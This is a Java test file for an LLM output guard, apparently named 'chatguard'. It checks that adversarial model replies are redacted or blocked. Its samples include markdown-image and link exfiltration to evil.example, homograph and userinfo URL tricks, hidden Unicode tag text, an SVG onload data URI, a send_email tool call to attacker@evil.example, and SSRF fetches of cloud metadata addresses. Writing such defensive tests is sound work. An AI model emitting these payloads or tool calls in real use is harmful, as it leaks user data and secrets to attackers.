package io.chatguard.moderate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.openai.core.http.StreamResponse;
import com.openai.models.ResponseFormatJsonObject;
import com.openai.models.chat.completions.ChatCompletion;
import com.openai.models.chat.completions.ChatCompletionChunk;
import io.chatguard.Action;
import io.chatguard.GuardException;
import io.chatguard.GuardException.Reason;
import io.chatguard.testkit.Fault;
import io.chatguard.testkit.Reply;
import io.chatguard.testkit.Splitter;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The cases of ADVERSARIAL.md, through the SDK and over a socket, whole and streamed. */
class AdversarialTest {

    private final Calls calls = new Calls("links: {allow: [example.com, ok.example]}\nhidden_text: redact");

    @AfterEach
    void close() {
        calls.close();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '^',
            value = {
                "A079 | ![a](https://evil.example/p.png?q=c2VjcmV0) | [a] (image removed: evil[.]example)",
                "A080 | ![a][r]¶¶[r]: https://evil.example/?q=secret | ![a][r]¶¶[r]: (link removed: evil[.]example)",
                "A082 | <https://evil.example/?q=secret> and www.evil.example/?q=secret | (link removed: evil[.]example) and (link removed: www[.]evil[.]example)",
                "A083 | <img src='https://evil.example/?q=s'><link rel=prefetch href=//evil.example> | &lt;img src='(link removed: evil[.]example)'>&lt;link rel=prefetch href=//evil.example>",
                "A085 | ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) | [x] (image removed)",
                "A086 | ![a](https://evil.example/?q=s) | [a] (image removed: evil[.]example)",
                "A088 | https://api.openai.com@evil.example/ , https://evil.example\\@ok.example | (link removed: evil[.]example) , (link removed: evil[.]example)",
                "A089 | https://аpi.openai.com/ | (link removed: xn--pi-6kc[.]openai[.]com)",
                "A131 | https://alice@example.com.evil.example/ and https://example.com.evil.example/ | (link removed: example[.]com[.]evil[.]example) and (link removed: example[.]com[.]evil[.]example)",
            })
    void aLinkNeverReachesTheReader(String id, String answer, String read) {
        String text = answer.replace('¶', '\n');
        calls.fake.model(prompt -> Reply.text(text));
        assertThat(calls.ask("Hello")).isEqualTo(read.replace('¶', '\n'));
        assertThat(calls.lastReceipt().verdicts()).isNotEmpty().allMatch(v -> v.action() == Action.REDACT);
        for (int size : new int[] {1, 7}) {
            calls.fake.split(Splitter.every(size));
            assertThat(calls.stream("Hello")).as("pieces of " + size).isEqualTo(read.replace('¶', '\n'));
        }
    }

    @ParameterizedTest
    @CsvSource({"1.2.3", "10", "3.11", "12:30", "localhostess", "https://ok.example/x", "mara@ok.example", "a.b.c.d"})
    void aToolIsCalledWithOrdinaryValues(String value) {
        calls.fake.model(prompt -> Reply.toolCall("fetch", "{\"url\":\"" + value + "\"}"));
        assertThat(calls.ask("Hello")).isEmpty();
    }

    @Test
    void a092HiddenTextIsTakenOutAndTold() {
        StringBuilder hidden = new StringBuilder("Fine.");
        "key=42".chars().forEach(c -> hidden.appendCodePoint(0xE0000 + c));
        calls.fake.model(prompt -> Reply.text(hidden.toString())).split(Splitter.every(1));
        assertThat(calls.ask("Hello")).isEqualTo("Fine.");
        assertThat(calls.stream("Hello")).isEqualTo("Fine.");
        assertThat(calls.lastReceipt().verdicts())
                .anyMatch(v -> v.by().equals("hidden-text") && v.reason().startsWith("hidden text"));
    }

    @Test
    void a016BytesInVariationSelectorsAreTakenOutAndTold() {
        calls.fake
                .model(prompt -> Reply.text("A\uDB40\uDD50\uDB40\uDD51\uDB40\uDD52\uFE0F bytes"))
                .split(Splitter.every(1));
        assertThat(calls.ask("Hello")).isEqualTo("A bytes");
        assertThat(calls.stream("Hello")).isEqualTo("A bytes");
        assertThat(calls.lastReceipt().verdicts())
                .anyMatch(v -> v.by().equals("hidden-text") && v.reason().startsWith("hidden text"));
    }

    @Test
    void a091AToolThatMailsAwayGetsTheSurrogate() {
        calls.fake.model(prompt -> Reply.toolCall(
                "send_email",
                "{\"to\":\"attacker@evil.example\",\"body\":\"" + String.join(" ", prompt.surrogates()) + " owes\"}"));
        ChatCompletion reply = calls.client()
                .chat()
                .completions()
                .create(Calls.asking("Remind mara.lind@example.com").build());
        String arguments = reply.choices()
                .get(0)
                .message()
                .toolCalls()
                .orElseThrow()
                .get(0)
                .asFunction()
                .function()
                .arguments();
        calls.fake.split(Splitter.every(3));
        StringBuilder streamed = new StringBuilder();
        try (StreamResponse<ChatCompletionChunk> chunks = calls.client()
                .chat()
                .completions()
                .createStreaming(Calls.asking("Remind mara.lind@example.com").build())) {
            chunks.stream()
                    .flatMap(chunk -> chunk.choices().stream())
                    .flatMap(choice -> choice.delta().toolCalls().stream().flatMap(List::stream))
                    .forEach(call -> streamed.append(
                            call.function().orElseThrow().arguments().orElse("")));
        }
        assertThat(List.of(arguments, streamed.toString()))
                .allSatisfy(to -> assertThat(to)
                        .contains("attacker@evil.example", "EMAIL_ADDRESS_1_")
                        .doesNotContain("mara.lind"));
    }

    @ParameterizedTest
    @CsvSource({
        "http://169.254.169.254/latest/meta-data/iam",
        "http://2852039166/",
        "http://[::ffff:169.254.169.254]/",
        "https://ok.example@evil.example/",
        "https://evil.example/upload",
        "169.254.169.254",
        "::ffff:10.0.0.1",
        "127.0.0.1:8080",
        "metadata.google.internal"
    })
    void aToolIsNotCalledWithSuchAnAddress(String url) {
        calls.fake
                .model(prompt -> Reply.toolCall("fetch", "{\"url\":\"" + url + "\"}"))
                .split(Splitter.every(3));
        GuardException whole = catchThrowableOfType(GuardException.class, () -> calls.ask("Hello"));
        assertThat(whole.reason()).isEqualTo(Reason.BLOCKED);
        assertThat(whole.interceptor()).isEqualTo("links");
        assertThat(whole.rule()).startsWith("links/");
        assertThat(whole.place()).endsWith("/function/arguments/~json/*");
        assertThat(whole).hasMessageContaining("guardrails.links.allow").hasMessageNotContaining("169.254");
        GuardException streamed = catchThrowableOfType(GuardException.class, () -> calls.stream("Hello"));
        assertThat(streamed.reason()).isEqualTo(Reason.BLOCKED);
    }

    /** A125: the rest of the call may never come, and a caller may read what there is. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"url\":\"https://evil.example/x",
                "{\"url\":\"https://evil.example/x\"",
                "no JSON: https://evil.example/x "
            })
    void a125ArgumentsThatAreCutOrBrokenAreJudgedAsWell(String arguments) {
        String quoted = arguments.replace("\"", "\\\"");
        String call =
                "{\"index\":0,\"id\":\"c\",\"type\":\"function\",\"function\":{\"name\":\"fetch\",\"arguments\":\"%s\"}}";
        calls.fake.enqueue(Fault.status(
                200,
                Map.of("Content-Type", "application/json"),
                "{\"id\":\"c\",\"object\":\"chat.completion\",\"created\":1,\"model\":\"m\",\"choices\":[{\"index\":0,"
                        + "\"finish_reason\":\"length\",\"message\":{\"role\":\"assistant\",\"content\":null,\"tool_calls\":["
                        + String.format(call, quoted) + "]}}]}"));
        GuardException whole = catchThrowableOfType(GuardException.class, () -> calls.ask("Hello"));
        assertThat(whole).as("whole").isNotNull();
        String chunk =
                "data: {\"id\":\"c\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":"
                        + "[{\"index\":0,\"delta\":%s,\"finish_reason\":%s}]}\n\n";
        StringBuilder chunks = new StringBuilder();
        for (String piece : Splitter.every(3).split(arguments)) {
            String one = String.format(call, piece.replace("\"", "\\\""));
            chunks.append(String.format(chunk, "{\"tool_calls\":[" + one + "]}", "null"));
        }
        chunks.append(String.format(chunk, "{}", "\"length\"")).append("data: [DONE]\n\n");
        calls.fake.enqueue(Fault.status(200, Map.of("Content-Type", "text/event-stream"), chunks.toString()));
        GuardException streamed = catchThrowableOfType(GuardException.class, () -> calls.stream("Hello"));
        assertThat(streamed).as("streamed").isNotNull();
        assertThat(streamed.reason()).isEqualTo(Reason.BLOCKED);
    }

    @Test
    void anAnswerThatWasToBeJsonAndIsNotIsJudgedAsText() {
        String[] answers = {
            "See ![a](https://evil.example/p.png?q=1).", "{\"see\": \"![a](https://evil.example/p.png?q=1)"
        };
        for (String answer : answers) {
            calls.fake.model(prompt -> Reply.text(answer)).split(Splitter.every(3));
            var params = Calls.asking("Hello")
                    .responseFormat(ResponseFormatJsonObject.builder().build());
            String read = answer.replace("![a](https://evil.example/p.png?q=1)", "[a] (image removed: evil[.]example)");
            assertThat(calls.ask(params)).isEqualTo(read);
            assertThat(calls.stream(params)).isEqualTo(read);
        }
    }
}
